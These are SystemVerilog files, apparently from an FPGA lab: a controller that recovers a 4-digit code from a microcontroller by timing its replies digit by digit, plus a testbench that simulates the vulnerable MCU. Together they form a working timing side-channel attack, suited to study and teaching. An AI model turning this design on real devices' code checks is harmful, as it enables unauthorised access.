// File: rtl/timing_attack_pkg.sv
// Shared definitions for the timing-attack guessing path: MCU protocol bytes
// and the search controller state encoding.
package timing_attack_pkg;

    localparam logic [7:0] START_BYTE        = 8'h01;
    localparam logic [7:0] BEGIN_GUESSING    = 8'h02;
    localparam logic [7:0] YES               = 8'h03;
    localparam logic [7:0] NO                = 8'h04;
    localparam logic [7:0] END_BYTE          = 8'h05;
    localparam logic [7:0] START_GUESS_RANGE = 8'h06;

    localparam int unsigned LAT_W = 32;
    localparam int unsigned SUM_W = 40;

    typedef enum logic [2:0] {
        IDLE,
        ISSUE,
        ACCEPT,
        MEASURE,
        EVAL,
        NEXT_POS,
        DONE
    } search_state_t;

endpackage

// File: rtl/reply_latency_meter.sv
// Counts cycles the transmitter spends waiting for the MCU reply and keeps
// the last reply byte seen while waiting.
module reply_latency_meter
    import timing_attack_pkg::*;
#(
    parameter int unsigned TIMEOUT = 50_000_000
) (
    input  logic             CLK_50,
    input  logic             rst_n,
    input  logic             clear,
    input  logic             waiting_for_reply,
    input  logic [7:0]       data_from_mcu,
    output logic [LAT_W-1:0] latency,
    output logic [7:0]       reply,
    output logic             rose,
    output logic             fell,
    output logic             timeout
);

    logic wfr_q;

    function automatic logic [LAT_W-1:0] sat_inc(input logic [LAT_W-1:0] v);
        return (v == '1) ? v : v + LAT_W'(1);
    endfunction

    always_ff @(posedge CLK_50) begin
        if (!rst_n) begin
            latency <= '0;
            reply   <= '0;
            wfr_q   <= 1'b0;
        end else begin
            wfr_q <= waiting_for_reply;
            if (clear) begin
                latency <= '0;
                reply   <= '0;
            end else if (waiting_for_reply) begin
                latency <= sat_inc(latency);
                reply   <= data_from_mcu;
            end
        end
    end

    assign rose    = waiting_for_reply & ~wfr_q;
    assign fell    = ~waiting_for_reply & wfr_q;
    assign timeout = latency >= LAT_W'(TIMEOUT);

endmodule

// File: rtl/timing_guess_search.sv
// Timing-attack search controller: tries every digit at each byte position,
// locks the slowest-answered digit, and stops on YES, exhaustion or timeout.
module timing_guess_search
    import timing_attack_pkg::*;
#(
    parameter int unsigned CODE_LEN  = 4,
    parameter logic [7:0]  DIGIT_MIN = 8'h30,
    parameter logic [7:0]  DIGIT_MAX = 8'h39,
    parameter int unsigned SAMPLES   = 4,
    parameter int unsigned TIMEOUT   = 50_000_000,
    localparam int unsigned POS_W    = (CODE_LEN > 1) ? $clog2(CODE_LEN) : 1
) (
    input  logic                  CLK_50,
    input  logic [0:0]            KEY,
    input  logic                  start,
    input  logic                  waiting_for_reply,
    input  logic [7:0]            data_from_mcu,
    output logic [8*CODE_LEN-1:0] guess,
    output logic                  begin_transaction,
    output logic                  busy,
    output logic                  done,
    output logic                  success,
    output logic                  error,
    output logic [8*CODE_LEN-1:0] found_code,
    output logic [POS_W-1:0]      cur_pos
);

    localparam logic [POS_W-1:0] LAST_POS = POS_W'(CODE_LEN - 1);

    logic             rst_n;
    search_state_t    state, state_nxt;
    logic [7:0]       candidate, best_cand;
    logic [SUM_W-1:0] cand_sum, best_sum, sum_next;
    logic [15:0]      sample_cnt, samples_needed;
    logic [31:0]      acc_cnt;
    logic             last_sample, is_yes;

    logic [LAT_W-1:0] latency;
    logic [7:0]       reply;
    logic             meter_rose, meter_fell, meter_timeout;

    function automatic logic [SUM_W-1:0] sat_add(input logic [SUM_W-1:0] a,
                                                  input logic [LAT_W-1:0] b);
        logic [SUM_W:0] s;
        s = {1'b0, a} + (SUM_W + 1)'(b);
        return s[SUM_W] ? '1 : s[SUM_W-1:0];
    endfunction

    assign rst_n = KEY[0];

    reply_latency_meter #(.TIMEOUT(TIMEOUT)) u_meter (
        .CLK_50            (CLK_50),
        .rst_n             (rst_n),
        .clear             (state == ISSUE),
        .waiting_for_reply (waiting_for_reply),
        .data_from_mcu     (data_from_mcu),
        .latency           (latency),
        .reply             (reply),
        .rose              (meter_rose),
        .fell              (meter_fell),
        .timeout           (meter_timeout)
    );

    // The last position only needs a YES, so one sample per digit is enough there.
    assign samples_needed = (cur_pos == LAST_POS) ? 16'd1 : 16'(SAMPLES);
    assign last_sample    = (sample_cnt + 16'd1) >= samples_needed;
    assign sum_next       = sat_add(cand_sum, latency);
    assign is_yes         = reply == YES;

    assign busy = state != IDLE;
    assign done = state == DONE;

    always_ff @(posedge CLK_50) begin
        if (!rst_n) state <= IDLE;
        else        state <= state_nxt;
    end

    always_comb begin
        state_nxt = state;
        case (state)
            IDLE:     if (start) state_nxt = ISSUE;
            ISSUE:    state_nxt = ACCEPT;
            // Level check covers a transmitter that is already waiting on entry.
            ACCEPT: begin
                if (meter_rose || waiting_for_reply)       state_nxt = MEASURE;
                else if (acc_cnt >= 32'(TIMEOUT - 1))      state_nxt = DONE;
            end
            MEASURE: begin
                if (meter_fell)         state_nxt = EVAL;
                else if (meter_timeout) state_nxt = DONE;
            end
            EVAL: begin
                if (is_yes)                                   state_nxt = DONE;
                else if (!last_sample || candidate < DIGIT_MAX) state_nxt = ISSUE;
                else                                          state_nxt = NEXT_POS;
            end
            NEXT_POS: state_nxt = (cur_pos < LAST_POS) ? ISSUE : DONE;
            DONE:     state_nxt = IDLE;
            default:  state_nxt = IDLE;
        endcase
    end

    always_ff @(posedge CLK_50) begin
        if (!rst_n) begin
            guess             <= '0;
            found_code        <= '0;
            begin_transaction <= 1'b0;
            success           <= 1'b0;
            error             <= 1'b0;
            cur_pos           <= '0;
            candidate         <= '0;
            best_cand         <= '0;
            best_sum          <= '0;
            cand_sum          <= '0;
            sample_cnt        <= '0;
            acc_cnt           <= '0;
        end else begin
            begin_transaction <= 1'b0;
            case (state)
                IDLE: if (start) begin
                    success    <= 1'b0;
                    error      <= 1'b0;
                    cur_pos    <= '0;
                    candidate  <= DIGIT_MIN;
                    best_cand  <= DIGIT_MIN;
                    best_sum   <= '0;
                    cand_sum   <= '0;
                    sample_cnt <= '0;
                    guess      <= {CODE_LEN{DIGIT_MIN}};
                end
                ISSUE: begin
                    for (int p = 0; p < CODE_LEN; p++)
                        if (cur_pos == POS_W'(p)) guess[8*p +: 8] <= candidate;
                    begin_transaction <= 1'b1;
                    acc_cnt           <= '0;
                end
                ACCEPT: acc_cnt <= acc_cnt + 32'd1;
                EVAL: if (!is_yes) begin
                    if (!last_sample) begin
                        cand_sum   <= sum_next;
                        sample_cnt <= sample_cnt + 16'd1;
                    end else begin
                        // Strict compare keeps the lower digit on a tie.
                        if (sum_next > best_sum) begin
                            best_sum  <= sum_next;
                            best_cand <= candidate;
                        end
                        cand_sum   <= '0;
                        sample_cnt <= '0;
                        if (candidate < DIGIT_MAX) candidate <= candidate + 8'd1;
                    end
                end
                NEXT_POS: if (cur_pos < LAST_POS) begin
                    for (int p = 0; p < CODE_LEN; p++)
                        if (cur_pos == POS_W'(p)) guess[8*p +: 8] <= best_cand;
                    cur_pos   <= cur_pos + POS_W'(1);
                    candidate <= DIGIT_MIN;
                    best_cand <= DIGIT_MIN;
                    best_sum  <= '0;
                end
                default: ;
            endcase

            if (state_nxt == DONE) begin
                found_code <= guess;
                if (state == EVAL)                             success <= 1'b1;
                else if (state == ACCEPT || state == MEASURE)  error   <= 1'b1;
            end
        end
    end

endmodule

// File: tb/tb_timing_guess_search.sv
// Bench for timing_guess_search: behavioural transmitter/MCU model plus a
// per-search scoreboard checked when done pulses.
module tb_timing_guess_search;

    logic        CLK_50 = 1'b0;
    logic [0:0]  KEY;
    logic        start, start2;
    logic        waiting_for_reply, wfr2;
    logic [7:0]  data_from_mcu, mcu2;
    logic [31:0] guess, found_code, guess2, found2;
    logic        begin_transaction, busy, done, success, error;
    logic        bt2, busy2, done2, succ2, err2;
    logic [1:0]  cur_pos, pos2;

    always #10 CLK_50 = ~CLK_50;

    timing_guess_search #(.TIMEOUT(1000)) dut (
        .CLK_50(CLK_50), .KEY(KEY), .start(start),
        .waiting_for_reply(waiting_for_reply), .data_from_mcu(data_from_mcu),
        .guess(guess), .begin_transaction(begin_transaction), .busy(busy),
        .done(done), .success(success), .error(error),
        .found_code(found_code), .cur_pos(cur_pos)
    );

    timing_guess_search #(.TIMEOUT(100)) dut_to (
        .CLK_50(CLK_50), .KEY(KEY), .start(start2),
        .waiting_for_reply(wfr2), .data_from_mcu(mcu2),
        .guess(guess2), .begin_transaction(bt2), .busy(busy2),
        .done(done2), .success(succ2), .error(err2),
        .found_code(found2), .cur_pos(pos2)
    );

    typedef struct {
        logic        s;
        logic        e;
        logic [31:0] code;
        logic [1:0]  pos;
        int          launches;
    } exp_t;

    exp_t        sbq[$];
    int          n_vec = 0, n_err = 0;
    int          launches = 0;
    logic        flat_mode = 1'b0;
    logic [31:0] yes_code = 32'hFFFF_FFFF;
    localparam logic [31:0] SECRET = 32'h3531_3337;

    task automatic chk(input string tag, input logic [63:0] got, input logic [63:0] exp);
        n_vec++;
        if (got !== exp) begin
            n_err++;
            $display("FAIL %s: got %0h expected %0h", tag, got, exp);
        end
    endtask

    function automatic int prefix_len(input logic [31:0] g, input logic [31:0] s);
        int  n = 0;
        logic run = 1'b1;
        for (int p = 0; p < 4; p++) begin
            if (run && g[8*p +: 8] == s[8*p +: 8]) n++;
            else run = 1'b0;
        end
        return n;
    endfunction

    // Transmitter + MCU model: reply delay grows with the matching prefix.
    initial begin
        logic [31:0] g;
        int d;
        waiting_for_reply = 1'b0;
        data_from_mcu     = 8'h00;
        forever begin
            @(posedge CLK_50); #1;
            if (begin_transaction === 1'b1) begin
                launches++;
                g = guess;
                @(posedge CLK_50); #1;
                chk("bt_single_cycle", 64'(begin_transaction), 64'(0));
                @(posedge CLK_50); #1;
                d = flat_mode ? 50 : 20 + 200 * prefix_len(g, SECRET);
                waiting_for_reply = 1'b1;
                data_from_mcu     = (g == yes_code) ? 8'h03 : 8'h04;
                repeat (d) @(posedge CLK_50);
                #1;
                waiting_for_reply = 1'b0;
                data_from_mcu     = 8'h00;
                if (busy) chk("guess_hold", 64'(guess), 64'(g));
            end
        end
    end

    always @(negedge CLK_50) begin
        if (done === 1'b1) begin
            if (sbq.size() == 0) chk("done_unexpected", 64'(done), 64'(0));
            else begin
                exp_t e;
                e = sbq.pop_front();
                chk("success",    64'(success),    64'(e.s));
                chk("error",      64'(error),      64'(e.e));
                chk("found_code", 64'(found_code), 64'(e.code));
                chk("cur_pos",    64'(cur_pos),    64'(e.pos));
                chk("launches",   64'(launches),   64'(e.launches));
            end
        end
    end

    task automatic pulse_reset();
        @(posedge CLK_50); #1 KEY = 1'b0;
        @(posedge CLK_50); #1 KEY = 1'b1;
    endtask

    task automatic run_search(input logic flat, input logic [31:0] yc, input exp_t e,
                              input string tag);
        int n = 0;
        flat_mode = flat;
        yes_code  = yc;
        launches  = 0;
        sbq.push_back(e);
        @(posedge CLK_50); #1 start = 1'b1;
        @(posedge CLK_50); #1 start = 1'b0;
        while (sbq.size() != 0 && n < 60000) begin
            @(posedge CLK_50); #1;
            n++;
        end
        if (sbq.size() != 0) begin
            chk({tag, "_done_seen"}, 64'(0), 64'(1));
            sbq.delete();
            pulse_reset();
        end
        repeat (3) @(posedge CLK_50);
        #1;
    endtask

    initial begin
        exp_t e;
        int   n, extra;
        KEY = 1'b0; start = 1'b1; start2 = 1'b1; wfr2 = 1'b0; mcu2 = 8'h00;

        // Reset with start held high; nothing may launch.
        repeat (3) @(posedge CLK_50);
        @(negedge CLK_50);
        chk("rst_guess",   64'(guess),             64'(0));
        chk("rst_found",   64'(found_code),        64'(0));
        chk("rst_bt",      64'(begin_transaction), 64'(0));
        chk("rst_busy",    64'(busy),              64'(0));
        chk("rst_done",    64'(done),              64'(0));
        chk("rst_success", 64'(success),           64'(0));
        chk("rst_error",   64'(error),             64'(0));
        chk("rst_pos",     64'(cur_pos),           64'(0));
        chk("rst_busy2",   64'(busy2),             64'(0));
        @(posedge CLK_50); #1 KEY = 1'b1; start = 1'b0; start2 = 1'b0;
        repeat (6) @(posedge CLK_50);
        #1;
        chk("rst_no_launch", 64'(launches), 64'(0));
        chk("rst_idle_busy", 64'(busy),     64'(0));

        // ACCEPT timeout with TIMEOUT=100 and the transmitter never answering.
        start2 = 1'b1;
        @(posedge CLK_50); #1 start2 = 1'b0;
        chk("to_busy", 64'(busy2), 64'(1));
        @(posedge CLK_50); #1;
        chk("to_bt_latency", 64'(bt2),    64'(1));
        chk("to_guess",      64'(guess2), 64'(32'h3030_3030));
        n = 0; extra = 0;
        while (done2 !== 1'b1 && n < 200) begin
            @(posedge CLK_50); #1;
            n++;
            if (bt2 === 1'b1) extra++;
        end
        chk("to_done_seen",    64'(done2),    64'(1));
        chk("to_within_105",   64'(n <= 105), 64'(1));
        chk("to_error",        64'(err2),     64'(1));
        chk("to_success",      64'(succ2),    64'(0));
        chk("to_no_relaunch",  64'(extra),    64'(0));
        @(posedge CLK_50); #1;
        chk("to_error_sticky", 64'(err2),     64'(1));

        // Full attack on "7315": 3 positions x 10 digits x 4 samples + 6 single tries.
        e = '{1'b1, 1'b0, SECRET, 2'd3, 126};
        run_search(1'b0, SECRET, e, "secret");

        // Flat latency, never YES: ties lock the lowest digit; last byte ends at DIGIT_MAX.
        e = '{1'b0, 1'b0, 32'h3930_3030, 2'd3, 130};
        run_search(1'b1, 32'hFFFF_FFFF, e, "flat");

        // YES for "73" padded with DIGIT_MIN: found at position 1 after 40 + 12 + 1 launches.
        e = '{1'b1, 1'b0, 32'h3030_3337, 2'd1, 53};
        run_search(1'b0, 32'h3030_3337, e, "pos1_yes");

        // Reset in MEASURE, then a fresh start from position 0.
        flat_mode = 1'b0; yes_code = 32'hFFFF_FFFF;
        @(posedge CLK_50); #1 start = 1'b1;
        @(posedge CLK_50); #1 start = 1'b0;
        n = 0;
        while (waiting_for_reply !== 1'b1 && n < 50) begin @(posedge CLK_50); #1; n++; end
        chk("mid_wfr_seen", 64'(waiting_for_reply), 64'(1));
        repeat (3) @(posedge CLK_50);
        #1 KEY = 1'b0;
        @(posedge CLK_50); #1;
        chk("mid_busy",  64'(busy),              64'(0));
        chk("mid_bt",    64'(begin_transaction), 64'(0));
        chk("mid_done",  64'(done),              64'(0));
        chk("mid_guess", 64'(guess),             64'(0));
        KEY = 1'b1;
        n = 0;
        while (waiting_for_reply !== 1'b0 && n < 1000) begin @(posedge CLK_50); #1; n++; end
        chk("mid_still_idle", 64'(busy), 64'(0));
        start = 1'b1;
        @(posedge CLK_50); #1 start = 1'b0;
        @(posedge CLK_50); #1;
        chk("restart_bt",    64'(begin_transaction), 64'(1));
        chk("restart_pos",   64'(cur_pos),           64'(0));
        chk("restart_guess", 64'(guess),             64'(32'h3030_3030));
        pulse_reset();
        n = 0;
        while (waiting_for_reply !== 1'b0 && n < 1000) begin @(posedge CLK_50); #1; n++; end
        repeat (4) @(posedge CLK_50);

        $display("== %0d vectors applied, %0d miscompares ==", n_vec, n_err);
        $finish;
    end

endmodule
